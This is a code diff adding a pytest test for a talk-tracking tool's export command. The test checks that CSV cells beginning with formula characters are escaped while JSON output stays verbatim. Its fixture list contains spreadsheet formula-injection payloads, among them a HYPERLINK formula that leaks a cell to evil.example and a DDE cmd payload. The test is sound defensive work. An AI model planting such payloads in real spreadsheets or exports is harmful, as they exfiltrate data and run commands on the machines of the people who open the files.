@@ -283,3 +283,62 @@ async def test_export_runs_the_same_number_of_queries_for_one_talk_or_many(
     one, many = await queries_for("U0BOB"), await queries_for(None)
     assert (one[0], many[0]) == (1, 3)
     assert one[1] == many[1] == 3  # talks, their actions, their reviews
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+)
+
+
+async def _seed_formulas(url: str) -> None:
+    engine = make_engine(url)
+    try:
+        async with session_scope(engine) as session:
+            for sid, manager in (("U0MGR", None), ("U0ANN", "U0MGR")):
+                session.add(
+                    Person(slack_id=sid, name=FORMULAS[2], manager_id=manager,
+                           created_at=NOW, updated_at=NOW)
+                )  # fmt: skip
+                await session.flush()
+            for n, text in enumerate(FORMULAS, start=1):
+                row = talk("U0ANN", date(2025, 1, n), n, facts=text, consensus=text,
+                           private_note=text)  # fmt: skip
+                session.add(row)
+                await session.flush()
+                session.add(
+                    ActionItem(talk_id=row.id, employee_id="U0ANN", owner_id="U0ANN", text=text,
+                               due_on=TODAY, created_at=NOW)
+                )  # fmt: skip
+            await session.commit()
+    finally:
+        await engine.dispose()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text_but_json_stays_verbatim(
+    monkeypatch: pytest.MonkeyPatch, database_url: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    asyncio.run(_seed_formulas(database_url))
+    monkeypatch.setenv("DATABASE_URL", database_url)
+
+    rows = list(
+        csv.DictReader(
+            io.StringIO(export(capsys, "--format", "csv", "--include-private"), newline="")
+        )
+    )
+    data = json.loads(export(capsys, "--format", "json", "--include-private"))
+
+    assert [r["facts"] for r in rows] == ["'" + f for f in FORMULAS]
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULAS_STARTS), (column, cell)
+    assert [t["facts"] for t in data["talks"]] == list(FORMULAS)
+    assert [t["private_note"] for t in data["talks"]] == list(FORMULAS)
+    assert [t["actions"][0]["text"] for t in data["talks"]] == list(FORMULAS)
+
+
+FORMULAS_STARTS = ("=", "+", "-", "@", "\t", "\r")
